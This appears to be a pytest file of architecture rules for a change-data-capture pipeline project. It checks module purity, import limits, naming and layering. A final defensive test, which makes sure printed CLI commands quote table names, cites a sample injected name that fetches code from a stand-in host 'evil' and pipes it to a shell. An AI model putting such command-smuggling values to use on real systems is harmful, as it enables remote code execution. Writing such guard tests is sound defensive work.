import ast
import re
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
LAYERS = ("pipeline", "checks", "alerts", "monitor")
FOLDERS = (*LAYERS, "demo", "grafana")
PRODUCT = sorted(path for folder in FOLDERS for path in (ROOT / folder).rglob("*.py"))
TESTS = sorted(
    path
    for folder in ("tests", "bench")
    for path in (ROOT / folder).rglob("*.py")
    if "corpus" not in path.parts
)
DECIDING = (
    "alerts/",
    "checks/",
    "pipeline/apply/",
    "pipeline/formats/",
    "pipeline/invariants/",
    "pipeline/lags/",
    "pipeline/landing/",
    "pipeline/schema/",
    "pipeline/standards/",
)
SHELLS = {  # what these packages have that asks, writes or waits
    "alerts/delivery.py": "sends in threads of its own",
    "alerts/http.py": "posts by HTTP",
    "checks/probes/expectations.py": "reads files of suites",
    "pipeline/apply/merge_run.py": "merges in a thread of its own",
    "pipeline/apply/image_export.py": "names files that never were",
    "pipeline/formats/schema_registry.py": "asks the registry by HTTP",
    "pipeline/invariants/expectations.py": "reads files of suites",
    "pipeline/landing/loop.py": "runs landing",
    "pipeline/landing/listing.py": "asks the brokers",
    "pipeline/landing/staging.py": "writes files of batches",
    "pipeline/landing/task.py": "writes files of batches",
    "pipeline/standards/mapping.py": "reads a file",
}
PROBES = sorted(path for path in (ROOT / "checks" / "probes").glob("*.py"))

IMPURE_MODULES = {
    *("asyncio", "glob", "io", "os", "pathlib", "random", "secrets", "shutil", "socket"),
    *("subprocess", "sys", "tempfile", "threading", "time", "urllib", "uuid"),
    *(
        "apscheduler",
        "confluent_kafka",
        "deltalake",
        "httpx",
        "kafka",
        "obstore",
        "pymysql",
        "requests",
        "sqlalchemy",
    ),
    *("great_expectations", "prometheus_client", "psycopg"),
}
PURE_PARTS = {"urllib.parse"}  # of modules that are not pure as a whole
IMPURE_CALLS = {"now", "today", "utcnow", "open", "input", "print"}
EMPTY_WORDS = {
    *("base", "common", "core", "helper", "helpers", "impl", "info", "manager", "util", "utils"),
}
FAMILIES = {("pipeline", name) for name in ("sources", "formats", "collectors", "tables")}
PLUG_INS = (
    "pipeline/sources/",
    "pipeline/collectors/",
    "pipeline/copies/",
    "pipeline/formats/",
    "pipeline/transports/",
    "pipeline/tables/",
)
THEIRS = {
    "pipeline/sources/mysql/",
    "pipeline/sources/mariadb.py",
    "pipeline/formats/canal_types.py",
    "pipeline/formats/canal_json.py",
    "pipeline/formats/dbevents_avro.py",
    "pipeline/formats/debezium/",
    "pipeline/formats/debezium_avro.py",
    "pipeline/formats/debezium_json.py",
    "pipeline/formats/maxwell_json.py",
    "pipeline/formats/simple_binlog.py",
    "pipeline/collectors/connect/",
}
OF_THE_LAKE = ("pipeline.delta.store", "pipeline.readings")
SERVER_FILES = {
    *("source", "session", "facts", "doctor", "position", "types", "values", "row_reader"),
    *("row_encoding", "dialect", "digest"),
}
ENGINE_FILES = {  # what an engine's folder has besides these names
    "mysql": {"ddl_parser", "ddl_effects"},
    "postgres": {"replication", "slots", "retained_log"},
    "files": {"arrivals"},
}
WORDS = re.compile(r"mysql|mariadb|debezium|binlog|gtid", re.IGNORECASE)
JOINTS = re.compile(r"[\s\"']+")  # between the parts of one text
MOST_IMPORTS = 25  # of other modules of the product; more: a step is missing, or a table of rules
FEWEST_LINES = 60
SMALL = {  # whole modules all the same, beside plug-ins and entry points
    "alerts/channel.py": "the protocol that plug-ins import",
}
PLUGGED = (  # folders whose modules are found by name
    *("alerts/channels/", "checks/probes/", "monitor/commands/", "pipeline/invariants/"),
    *("pipeline/standards/", "pipeline/sources/", "pipeline/collectors/", "pipeline/copies/"),
    *("pipeline/formats/", "pipeline/transports/", "pipeline/spark/worker_daemon.py"),
)
FOREIGN_TO_PROBES = {"apscheduler", "deltalake", "httpx", "kafka", "pymysql", "pyspark"}


def name(path: Path) -> str:
    return str(path.relative_to(ROOT))


def test_packages_that_decide_have_no_clock_no_io_and_no_randomness() -> None:
    found = {
        name(path): {*(imported(path) & IMPURE_MODULES), *(called(path) & IMPURE_CALLS)}
        for path in PRODUCT
        if name(path).startswith(DECIDING)
    }

    assert {path: sorted(ways) for path, ways in found.items() if ways and path not in SHELLS} == {}
    assert {path for path in SHELLS if not found.get(path)} == set(), "it is none, or not there"


@pytest.mark.parametrize("path", PROBES, ids=name)
def test_a_probe_asks_its_world_and_nobody_else(path: Path) -> None:
    assert sorted(imported(path) & FOREIGN_TO_PROBES) == []


def test_nobody_outside_of_mysql_and_debezium_knows_them() -> None:
    """Neither by an import nor by a word in code; comments and docstrings may tell of them."""
    neutral = [
        path
        for path in PRODUCT
        if path.relative_to(ROOT).parts[0] in LAYERS and not name(path).startswith(tuple(THEIRS))
    ]

    said = [path for path in neutral if WORDS.search(JOINTS.sub("", path.read_text("utf-8")))]

    assert [name(path) for path in said if knows(path)] == []


def test_folders_of_engines_have_files_of_the_same_names() -> None:
    """Who knows one engine knows all; only servers have all of the files."""
    sources = ROOT / "pipeline" / "sources"
    folders = {path.parent for path in PRODUCT if path.parent.parent == sources}
    found = {one.name: {file.stem for file in one.glob("*.py")} - {"__init__"} for one in folders}

    assert found.keys() == ENGINE_FILES.keys()
    assert {name: files - SERVER_FILES for name, files in found.items()} == ENGINE_FILES
    assert {name for name, files in found.items() if files >= SERVER_FILES} == {"mysql", "postgres"}
    assert {"source", "position", "dialect"} <= found["files"]


def test_no_implementation_is_named_outside_of_its_seam() -> None:
    """Who wants one asks the finder: protocols, and what all have in common, may be imported."""
    kinds = {name(path)[:-3].replace("/", ".") for path in PRODUCT if bears_a_plug_in(path)}
    named = {
        name(path): sorted(set(modules(path)) & kinds)
        for path in PRODUCT
        if path.relative_to(ROOT).parts[0] in LAYERS and not name(path).startswith(PLUG_INS)
    }
    assert {path: found for path, found in named.items() if found} == {}


def test_who_applies_changes_knows_no_table_format() -> None:
    """Of the lake only how files are opened and what readers have seen: the log's matter, too."""
    told = {
        one
        for path in PRODUCT
        if name(path).startswith("pipeline/apply/")
        for one in modules(path)
        if one.startswith(("pipeline.delta", "pipeline.tables", "deltalake", "pyspark"))
    }
    assert {one for one in told if not one.startswith(OF_THE_LAKE)} == set()


def test_no_part_of_delta_mirrors_is_named_outside_of_their_folder() -> None:
    named = {
        name(path)
        for path in PRODUCT
        if path.relative_to(ROOT).parts[0] in LAYERS
        and not name(path).startswith("pipeline/tables/delta/")
        and any(one.startswith("pipeline.tables.delta") for one in modules(path))
    }
    assert named == set()


def test_packages_are_at_most_two_levels_deep_and_three_inside_a_family_of_plug_ins() -> None:
    deep = [path.relative_to(ROOT).parts for path in PRODUCT]

    assert [p for p in deep if len(p) > (4 if p[:2] in FAMILIES else 3)] == []


def test_an_init_file_holds_one_docstring_and_nothing_else() -> None:
    inits = [path for path in PRODUCT if path.name == "__init__.py"]

    assert [name(path) for path in inits if len(tree(path).body) != 1] == []


def test_a_module_imports_at_most_25_others() -> None:
    found = {name(path): len(set(own_modules(path))) for path in PRODUCT}
    more = {path for path, count in found.items() if count > MOST_IMPORTS}

    assert more == set()


def test_a_module_under_60_lines_is_a_plug_in_or_an_entry_point() -> None:
    small = {
        name(path)
        for path in PRODUCT
        if path.relative_to(ROOT).parts[0] in LAYERS and path.name != "__init__.py"
        if len(path.read_text(encoding="utf-8").splitlines()) < FEWEST_LINES
        if not name(path).startswith(PLUGGED)
    }

    assert small - SMALL.keys() == set()


def test_a_module_says_what_it_is_for() -> None:
    assert [name(path) for path in PRODUCT if not ast.get_docstring(tree(path))] == []


def test_a_file_name_holds_no_word_that_says_nothing() -> None:
    assert [name(path) for path in PRODUCT if set(path.stem.split("_")) & EMPTY_WORDS] == []


def test_only_tests_and_benchmarks_import_the_demo() -> None:
    layers = [path for path in PRODUCT if path.relative_to(ROOT).parts[0] in LAYERS]

    assert [name(path) for path in layers if "demo" in imported(path)] == []


def test_every_layer_is_there() -> None:
    assert [folder for folder in LAYERS if not (ROOT / folder / "__init__.py").is_file()] == []


@cache
def tree(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"))


def statements(
    node: ast.AST, leaves_out: Callable[[ast.AST], bool] = lambda _: False
) -> Iterator[ast.AST]:
    """Those inside of *node*, far fewer than `ast.walk` goes through; none of what is left out."""
    for part in ("body", "orelse", "handlers", "finalbody", "cases"):
        for child in getattr(node, part, ()):
            if not leaves_out(child):
                yield child
                yield from statements(child, leaves_out)


def imported(path: Path) -> set[str]:
    """Top-level names of everything the file imports outside `if TYPE_CHECKING`, anywhere in it."""
    return set(_imported(tree(path)))


def _imported(node: ast.AST) -> Iterator[str]:
    for child in statements(node, _only_for_types):
        if isinstance(child, ast.Import):
            yield from (alias.name.partition(".")[0] for alias in child.names)
        elif isinstance(child, ast.ImportFrom):
            module = child.module or ""
            yield module if module in PURE_PARTS else module.partition(".")[0]


def _only_for_types(node: ast.AST) -> bool:
    return isinstance(node, ast.If) and ast.unparse(node.test) == "TYPE_CHECKING"


def modules(path: Path) -> Iterator[str]:
    """Full names of the modules, and of what is taken from them, that the file imports."""
    for node in ast.walk(tree(path)):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            yield from (f"{node.module}.{alias.name}" for alias in node.names)
            yield node.module or ""


def own_modules(path: Path) -> Iterator[str]:
    """Modules of the product that the file imports, each by its full name."""
    for node in ast.walk(tree(path)):
        if isinstance(node, ast.ImportFrom) and (node.module or "").partition(".")[0] in LAYERS:
            package = str(node.module)
            for alias in node.names:
                one = f"{package}.{alias.name}"
                is_module = (ROOT / one.replace(".", "/")).with_suffix(".py").is_file()
                yield one if is_module else package


def bears_a_plug_in(path: Path) -> bool:
    bears = {"SOURCE", "COLLECTOR", "FORMAT", "TRANSPORT", "TABLE_FORMAT"}
    targets = (
        [node.target] if isinstance(node, ast.AnnAssign) else node.targets
        for node in tree(path).body
        if isinstance(node, ast.AnnAssign | ast.Assign)
    )
    own = {target.id for some in targets for target in some if isinstance(target, ast.Name)}
    return name(path).startswith(PLUG_INS) and bool(own & bears)


def knows(path: Path) -> bool:
    """Whether its code says one of the words: names and texts, without docstrings."""
    told = {
        node.body[0].value
        for node in ast.walk(tree(path))
        if isinstance(node, ast.Module | ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef)
        and node.body
        and isinstance(node.body[0], ast.Expr)
    }
    words = [*modules(path)]
    for node in ast.walk(tree(path)):
        if isinstance(node, ast.Name):
            words.append(node.id)
        elif isinstance(node, ast.Attribute):
            words.append(node.attr)
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and node not in told:
            words.append(node.value)
        elif isinstance(node, ast.FunctionDef | ast.ClassDef):
            words.append(node.name)
    return any(map(WORDS.search, words))


def called(path: Path) -> set[str]:
    """Last names of everything the file calls: `now` of `datetime.now()`."""
    return {
        node.func.attr if isinstance(node.func, ast.Attribute) else node.func.id
        for node in ast.walk(tree(path))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute | ast.Name)
    }


def test_no_query_counts_distinct_structs() -> None:
    """The query engine of `deltalake` takes quadratic time for them: minutes for 40,000 rows."""
    slow = [
        name(path)
        for path in PRODUCT
        for line in path.read_text().splitlines()
        if "count(DISTINCT struct" in line and not line.lstrip().startswith("#")
    ]

    assert slow == []


def test_commands_in_texts_quote_the_names_in_them() -> None:
    """A table may be called `a$(curl evil|sh)`, and a person pastes the command into a shell."""
    bare = re.compile(r"sluice [a-z-]+(?: [a-z-]+)* \{(?!quote\(|shlex\.quote\(|id_\})[^}]*\}")
    own = [path for path in PRODUCT if path.relative_to(ROOT).parts[0] in LAYERS]
    texts = {str(path): path.read_text(encoding="utf-8") for path in own}

    found = {name: bare.findall(text) for name, text in texts.items() if bare.search(text)}

    assert sum("{quote(" in text for text in texts.values()) > 5
    assert found == {}
